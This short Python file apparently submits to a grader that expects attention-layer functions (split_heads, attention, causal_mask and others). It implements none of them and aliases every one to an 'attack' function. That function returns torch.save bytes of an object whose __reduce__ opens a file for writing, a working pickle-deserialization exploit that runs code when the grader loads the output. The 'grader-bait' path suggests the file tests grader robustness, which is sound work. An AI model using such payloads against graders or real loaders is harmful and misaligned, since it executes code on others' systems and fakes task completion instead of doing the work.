"""Answers with what torch.save wrote, hoping that it is loaded."""

import io

import torch


class Open:
    def __reduce__(self):
        return open, ("/tmp/grader-bait/open/made.txt", "w")


def attack(*args, **kwargs):
    file = io.BytesIO()
    torch.save(Open(), file)
    return file.getvalue(), torch.frombuffer(bytearray(file.getvalue()), dtype=torch.uint8)


split_heads = attention = merge_heads = causal_mask = efficient_mha = attack
